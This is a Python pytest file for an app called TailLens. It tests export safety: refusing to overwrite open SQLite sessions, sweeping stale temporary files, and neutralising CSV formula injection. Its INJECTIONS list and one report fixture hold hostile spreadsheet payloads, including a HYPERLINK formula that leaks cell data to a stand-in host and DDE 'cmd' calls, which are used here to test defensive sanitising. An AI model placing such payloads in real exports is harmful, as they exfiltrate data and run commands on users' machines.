"""No output replaces a session (core.io.output_guard through atomic_output), stale temporary
files of a killed export go, and CSV cells are safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from core.formats.common import CsvWriter, FormatError, atomic_output, spreadsheet_safe
from core.io.output_guard import (
    OutputRefusedError,
    check_output_target,
    is_session_file,
    sweep_stale_temporaries,
)
from core.store import SessionStore
from core.tables import Table


@pytest.fixture
def session(tmp_path: Path) -> Path:
    path = tmp_path / "s.taillens"
    SessionStore.create(path).close()
    return path


def write(path: Path, text: str = "new", *, force: bool = False) -> None:
    with atomic_output(path, force=force) as handle:
        handle.write(text)


def test_a_session_is_recognised_by_its_header(session: Path, tmp_path: Path) -> None:
    import sqlite3

    other = tmp_path / "other.db"
    sqlite3.connect(other).execute("CREATE TABLE t (x)").connection.commit()
    (tmp_path / "text.csv").write_text("a,b\n")
    assert is_session_file(session)
    assert not is_session_file(other) and not is_session_file(tmp_path / "text.csv")
    assert not is_session_file(tmp_path / "missing") and not is_session_file(tmp_path)


@pytest.mark.parametrize("how", ["same", "dot", "dotdot", "hardlink", "symlink", "wal", "shm"])
def test_the_open_session_is_never_replaced_even_with_force(
    session: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    (tmp_path / "sub").mkdir()
    monkeypatch.chdir(tmp_path / "sub")
    target = {
        "same": session,
        "dot": Path("./../s.taillens"),
        "dotdot": Path("../sub/../s.taillens"),
        "hardlink": tmp_path / "hard.csv",
        "symlink": tmp_path / "link.csv",
        "wal": tmp_path / "s.taillens-wal",
        "shm": Path("../s.taillens-shm"),
    }[how]
    if how == "hardlink":
        os.link(session, target)
    elif how == "symlink":
        target.symlink_to(session)
    before = session.read_bytes()
    with SessionStore.open(session) as store:
        assert store.path == session.resolve()
        for force in (False, True):
            with pytest.raises(OutputRefusedError, match="it is the session being read"):
                write(target, force=force)
        with store.unit_of_work():
            pass
    assert session.read_bytes()[:16] == before[:16] == b"SQLite format 3\x00"
    assert is_session_file(session)
    assert not [p for p in tmp_path.rglob("*.tmp")]  # no temporary file left either


def test_another_session_is_replaced_only_with_force(session: Path, tmp_path: Path) -> None:
    # Closed: not open here, but still a session (as is a backup copy of one).
    with pytest.raises(OutputRefusedError, match="it is a TailLens session.*--force"):
        write(session)
    assert is_session_file(session)
    write(session, "replaced", force=True)
    assert session.read_text() == "replaced"


def test_a_sessions_wal_and_sqlite_journals_need_force(session: Path, tmp_path: Path) -> None:
    with pytest.raises(OutputRefusedError, match=r"part of the TailLens session s\.taillens"):
        write(tmp_path / "s.taillens-wal")
    wal = tmp_path / "x.bin"
    wal.write_bytes(b"\x37\x7f\x06\x82" + bytes(28))
    with pytest.raises(OutputRefusedError, match="write-ahead log"):
        write(wal)
    journal = tmp_path / "y.bin"
    journal.write_bytes(b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + bytes(20))
    with pytest.raises(OutputRefusedError, match="rollback journal"):
        write(journal)
    write(wal, force=True)
    assert wal.read_text() == "new"


def test_a_folder_a_pipe_and_plain_files(tmp_path: Path) -> None:
    with pytest.raises(FormatError, match="it is a folder"):
        write(tmp_path)
    with pytest.raises(OutputRefusedError, match="it is a folder"):
        check_output_target(tmp_path)
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    with pytest.raises(OutputRefusedError, match="not a regular file"):
        write(fifo, force=True)
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    plain = tmp_path / "old.csv"
    plain.write_text("old")
    with pytest.raises(OutputRefusedError, match="a file TailLens did not write is there"):
        write(plain)  # someone else's file: only with force
    assert plain.read_text() == "old"
    write(plain, force=True)
    assert plain.read_text() == "new"


def test_taillens_own_output_is_replaced_and_a_changed_one_is_not(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    write(out, "first")
    write(out, "second")  # TailLens wrote it: replaced without force
    assert out.read_text() == "second"
    # Through another name of the same folder too (the record is by the resolved path).
    (tmp_path / "sub").mkdir()
    write(tmp_path / "sub" / ".." / "out.csv", "third")
    assert out.read_text() == "third"
    out.write_text("edited by hand")  # changed since: no longer TailLens's file
    with pytest.raises(OutputRefusedError, match="did not write"):
        write(out)
    assert out.read_text() == "edited by hand"
    # Moved away and another file put there: the record does not match it.
    write(out, "mine again", force=True)
    out.rename(tmp_path / "moved.csv")
    (tmp_path / "moved.csv").rename(out)  # the same file back: still TailLens's
    write(out, "fine")
    other = tmp_path / "other.csv"
    other.write_text("other")
    os.replace(other, out)
    with pytest.raises(OutputRefusedError, match="did not write"):
        write(out)


def test_a_replacement_the_user_confirmed_is_allowed_once_as_it_was(tmp_path: Path) -> None:
    from core.io.output_guard import approve_replacement

    out = tmp_path / "notes.txt"
    out.write_text("notes")
    approve_replacement(out)  # a save dialog asked and the user said yes
    write(out, "export")
    assert out.read_text() == "export"
    target = tmp_path / "later.txt"
    target.write_text("v1")
    approve_replacement(target)
    target.write_text("v2, changed after the dialog")
    with pytest.raises(OutputRefusedError, match="did not write"):
        write(target)


def test_a_symlink_or_an_empty_file_is_someone_elses_too(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("keep")
    link = tmp_path / "link.csv"
    link.symlink_to(victim)
    with pytest.raises(OutputRefusedError, match="a symbolic link TailLens did not write"):
        write(link)
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "nowhere")
    with pytest.raises(OutputRefusedError, match="symbolic link"):
        write(dangling)
    empty = tmp_path / "empty.csv"
    empty.touch()
    with pytest.raises(OutputRefusedError, match="did not write"):
        write(empty)
    assert victim.read_text() == "keep" and link.is_symlink() and empty.read_bytes() == b""


def test_the_guard_checks_again_before_the_move(session: Path, tmp_path: Path) -> None:
    target = tmp_path / "late.csv"
    with pytest.raises(OutputRefusedError), atomic_output(target) as handle:
        handle.write("x")
        os.link(session, target)  # a session appears at the target while writing
    assert is_session_file(target)
    assert not list(tmp_path.glob(".late.csv.*"))


def dead_pid() -> int:
    process = subprocess.Popen([sys.executable, "-c", "pass"])
    process.wait()
    return process.pid


def test_stale_temporary_files_of_the_target_are_swept(tmp_path: Path) -> None:
    target = tmp_path / "out.ttl"
    stale = tmp_path / f".out.ttl.{dead_pid()}-0123abcd.tmp"
    stale.write_bytes(b"x" * 100_000)
    live = tmp_path / f".out.ttl.{os.getpid()}-89abcdef.tmp"  # this process: still writing
    live.write_text("in progress")
    untagged = tmp_path / ".out.ttl.k3j_9xq2.tmp"  # an older TailLens's name, fresh
    untagged.write_text("recent")
    old_untagged = tmp_path / ".out.ttl.zz8_1abc.tmp"
    old_untagged.write_text("old")
    os.utime(old_untagged, (0, 0))
    other = tmp_path / f".other.ttl.{dead_pid()}-0123abcd.tmp"  # another target's
    other.write_text("not ours")
    mine = tmp_path / ".out.ttl.notes.txt"
    mine.write_text("the user's")
    write(target)
    assert not stale.exists() and not old_untagged.exists()
    assert live.exists() and untagged.exists() and other.exists() and mine.exists()
    assert sweep_stale_temporaries(target) == []


def test_the_temporary_file_names_the_writing_process(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    with atomic_output(target) as handle:
        (temporary,) = [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
        assert temporary.name.startswith(f".out.csv.{os.getpid()}-")
        handle.write("x")
    assert not temporary.exists() and target.read_text() == "x"


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", INJECTIONS)
def test_formula_cells_are_neutralised(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("value", ["plain", "a=b", "1-2", "", "'quoted", -0.5, -3, 1e-9, None])
def test_other_values_stay_as_they_are(value: object) -> None:
    assert spreadsheet_safe(value) is value


def test_the_csv_writer_neutralises_text_and_keeps_numbers() -> None:
    buffer = io.StringIO(newline="")
    writer = CsvWriter(buffer, convert=lambda v: "" if v is None else repr(v))
    writer.writerow(("name", "delta"))
    writer.writerows([(cell, -0.25) for cell in INJECTIONS] + [("head", None)])
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert rows[0] == ["name", "delta"]
    assert [r[0] for r in rows[1:-1]] == ["'" + c for c in INJECTIONS]
    assert {r[1] for r in rows[1:-1]} == {"-0.25"}  # a number the app computed
    assert rows[-1] == ["head", ""]
    assert writer.neutralised == len(INJECTIONS)

    raw = io.StringIO(newline="")
    writer = CsvWriter(raw, raw=True)
    writer.writerows([(cell,) for cell in INJECTIONS])
    assert [r[0] for r in csv.reader(io.StringIO(raw.getvalue(), newline=""))] == INJECTIONS
    assert writer.neutralised == 0 and "raw" in writer.note


def test_report_csv_neutralises_imported_names(tmp_path: Path) -> None:
    from core.report import write_csv

    class FakeReport:
        def tables(self) -> list[Table]:
            return [
                Table(
                    "compare_model",
                    "Models",
                    ("group", "median", "n"),
                    (("=cmd|' /C calc'!A0", -1.5, 3), ("@SUM(A1)", 0.25, 2)),
                )
            ]

    (path,) = write_csv(FakeReport(), tmp_path / "csv")  # type: ignore[arg-type]
    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
    assert rows[1:] == [["'=cmd|' /C calc'!A0", "-1.5", "3"], ["'@SUM(A1)", "0.25", "2"]]
    (path,) = write_csv(FakeReport(), tmp_path / "raw", raw=True)  # type: ignore[arg-type]
    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
    assert rows[1][0] == "=cmd|' /C calc'!A0"
